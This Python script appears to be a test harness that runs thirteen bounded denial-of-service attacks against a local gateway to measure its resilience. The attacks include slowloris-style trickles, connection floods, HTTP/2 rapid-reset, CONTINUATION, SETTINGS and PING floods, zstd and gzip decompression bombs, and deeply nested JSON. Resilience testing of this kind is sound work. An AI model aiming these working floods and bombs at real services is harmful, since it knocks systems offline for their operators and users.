#!/usr/bin/env python3
"""One attack on a gateway that reads PROXY headers, until standard input closes.

    attacks.py NAME PORT

What an attack does, and how fast, stands beside its name in ATTACKS. It prints READY when it is under way, and at its end one line of JSON
with what it did. Rates are bounded: attacker and gateway share their cores, and what is measured is the gateway.
"""

import contextlib
import json
import re
import socket
import struct
import sys
import threading
import time
import zlib

import harness

# The attacker's address, as its PROXY header has it; many addresses where a cap for each is not what is tried.
ADDRESS = "198.51.100.7"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
TIMEOUT_SECONDS = 2
CONNECTIONS = 900
IDLE_CONNECTIONS = 9900
ADDRESSES = 20
# Until the gateway has answered what an attack began with.
SETTLE_SECONDS = 1
FRAMES = 1500
# GOAWAY with ENHANCE_YOUR_CALM (RFC 9113 section 6.8).
CALM = re.compile(rb"\x07\x00\x00\x00\x00\x00....\x00\x00\x00\x0b", re.DOTALL)

done = {}
stopped = threading.Event()


def count(what, number=1):
    done[what] = done.get(what, 0) + number


def connected(port, address=ADDRESS, receive_bytes=None):
    """A connection that has said whose it is; None if it was refused."""
    connection = socket.socket()
    try:
        connection.settimeout(TIMEOUT_SECONDS)
        if receive_bytes:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
        connection.connect(("127.0.0.1", port))
        connection.sendall(f"PROXY TCP4 {address} 127.0.0.1 40000 80\r\n".encode())
        connection.settimeout(0)
        count("connections")
        return connection
    except OSError:
        connection.close()
        return None


def sent(connection, data):
    """Sends what the connection takes; False if it is gone."""
    try:
        connection.send(data)
    except BlockingIOError:
        pass
    except OSError:
        return False
    return True


def received(connection):
    """What has come; None if the connection is gone."""
    try:
        data = connection.recv(65536)
    except BlockingIOError:
        return b""
    except OSError:
        return None
    return data or None


def rounds(seconds):
    """Goes on every so many seconds until the attack ends."""
    while not stopped.wait(seconds):
        yield


def trickle(port, opening, piece):
    """900 connections that send a piece a second each, and come again when they are closed."""
    def begun():
        connection = connected(port)
        if connection:
            sent(connection, opening)
        return connection

    crowd = [begun() for _ in range(CONNECTIONS)]
    ready()
    for turn, _ in enumerate(rounds(0.05)):
        for index in range(turn % 20, len(crowd), 20):
            connection = crowd[index]
            if connection and received(connection) is not None and sent(connection, piece):
                count("pieces")
                continue
            if connection:
                count("closed by the gateway")
                connection.close()
            crowd[index] = begun()


def slow_headers(port):
    trickle(port, b"POST /log HTTP/1.1\r\nHost: a\r\n", b"x")


def slow_bodies(port):
    trickle(port, b"POST /log HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n", b"[" * 20)


def slow_readers(port):
    """200 connections ask for as much as is taken from them, and read nothing."""
    question = b"GET /health HTTP/1.1\r\nHost: a\r\n\r\n" * 50
    crowd = [connected(port, receive_bytes=4096) for _ in range(200)]
    ready()
    for turn, _ in enumerate(rounds(0.05)):
        for index in range(turn % 4, len(crowd), 4):
            if crowd[index] and sent(crowd[index], question):
                count("pieces")
            else:
                count("closed by the gateway")
                crowd[index] = connected(port, receive_bytes=4096)


def connection_flood(port):
    """500 new connections a second from one address, which are kept."""
    kept = []
    ready()
    for _ in rounds(0.1):
        for _ in range(50):
            if connection := connected(port):
                kept.append(connection)
        gone = [one for one in kept if received(one) is None]
        for one in gone:
            one.close()
        count("closed by the gateway", len(gone))
        kept = [one for one in kept if one.fileno() >= 0]


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def section(*fields):
    return b"".join(b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value for name, value in fields)


GET = section((b":method", b"GET"), (b":scheme", b"http"), (b":authority", b"a"), (b":path", b"/health"))


def h2_flood(port, frames):
    """10 connections a second, each with its preface and 1500 units of the flood, as far as it gets."""
    ready()
    for _ in rounds(0.1):
        connection = connected(port)
        if not connection:
            continue
        with connection:
            connection.settimeout(TIMEOUT_SECONDS)
            answer = b""
            with contextlib.suppress(OSError):
                connection.sendall(PREFACE + frame(4, 0, 0) + frames)
            with contextlib.suppress(OSError):
                while data := connection.recv(65536):
                    answer += data
            count("floods")
            count("told to calm down", bool(CALM.search(answer)))


def rapid_reset(port):
    h2_flood(port, b"".join(
        frame(1, 5, 2 * index + 1, GET) + frame(3, 0, 2 * index + 1, struct.pack(">I", 8)) for index in range(FRAMES)))


def continuation_flood(port):
    h2_flood(port, frame(1, 1, 1, GET) + b"".join(frame(9, 0, 1, section((b"x", b"y" * 100))) for _ in range(FRAMES)))


def settings_flood(port):
    h2_flood(port, frame(4, 0, 0, struct.pack(">HI", 3, 100)) * FRAMES)


def ping_flood(port):
    h2_flood(port, frame(6, 0, 0, bytes(8)) * FRAMES)


def post(body, more=b""):
    return (
        b"POST /log HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n" + more
        + b"Content-Length: %d\r\n\r\n" % len(body) + body)


def requests(port, request, interval):
    """One request after the other, so many seconds apart, each on a connection of its own."""
    ready()
    for _ in rounds(interval):
        connection = connected(port)
        if not connection:
            continue
        with connection:
            connection.settimeout(TIMEOUT_SECONDS)
            with contextlib.suppress(OSError):
                connection.sendall(request)
                count(f"answered {connection.recv(4096)[9:12].decode()}")


def zstd_bomb(port):
    """20 a second: 64 blocks that repeat a byte 128 KiB times, in 300 bytes."""
    size = 128 << 10
    blocks = b"".join(struct.pack("<I", last | 1 << 1 | size << 3)[:3] + b" " for last in [0] * 63 + [1])
    requests(port, post(b"\x28\xb5\x2f\xfd\x00" + bytes([10 << 3]) + blocks, b"Content-Encoding: zstd\r\n"), 0.05)


def gzip_bomb(port):
    """20 a second: 100 MiB of zeros in 100 KiB."""
    packer = zlib.compressobj(9, wbits=31)
    body = b"".join(packer.compress(bytes(1 << 20)) for _ in range(100)) + packer.flush()
    requests(port, post(body, b"Content-Encoding: gzip\r\n"), 0.05)


def deep_json(port):
    """20 a second: 1,000,000 opening brackets."""
    requests(port, post(b"[" * 1_000_000), 0.05)


def idle_connections(port):
    """9,900 connections, of 20 addresses, that have asked once and stay."""
    crowd = []
    for index in range(IDLE_CONNECTIONS):
        connection = connected(port, f"198.51.100.{index % ADDRESSES + 1}")
        if connection and sent(connection, b"GET /health HTTP/1.1\r\nHost: a\r\n\r\n"):
            crowd.append(connection)
    stopped.wait(SETTLE_SECONDS)
    ready()
    for _ in rounds(0.5):
        pass
    count("still open", sum(received(connection) is not None for connection in crowd))


def pipelining(port):
    """16 connections with 100 requests at once each, every second; their answers are read."""
    question = b"GET /health HTTP/1.1\r\nHost: a\r\n\r\n" * 100
    crowd = [connected(port) for _ in range(16)]
    ready()
    for turn, _ in enumerate(rounds(1 / 16)):
        index = turn % 16
        if crowd[index] and received(crowd[index]) is not None and sent(crowd[index], question):
            count("requests", 100)
        else:
            count("closed by the gateway")
            crowd[index] = connected(port)


ATTACKS = {
    "slow headers, 900 connections, a byte a second each": slow_headers,
    "slow bodies, 900 connections, 20 bytes a second each": slow_bodies,
    "slow readers, 200 connections": slow_readers,
    "connection flood, 500 a second of one address": connection_flood,
    "HTTP/2 rapid reset, 10 × 1,500 a second": rapid_reset,
    "HTTP/2 CONTINUATION, 10 × 1,500 a second": continuation_flood,
    "HTTP/2 SETTINGS, 10 × 1,500 a second": settings_flood,
    "HTTP/2 PING, 10 × 1,500 a second": ping_flood,
    "zstd bombs, 20 a second": zstd_bomb,
    "gzip bombs, 20 a second": gzip_bomb,
    "deep JSON of 1 MB, 20 a second": deep_json,
    "9,900 idle connections": idle_connections,
    "pipelining, 1,600 requests a second by 100": pipelining,
}


def ready():
    print("READY", flush=True)


def main():
    harness.raise_file_limit()
    threading.Thread(target=lambda: (sys.stdin.read(), stopped.set()), daemon=True).start()
    ATTACKS[sys.argv[1]](int(sys.argv[2]))
    print(json.dumps(done), flush=True)


if __name__ == "__main__":
    main()
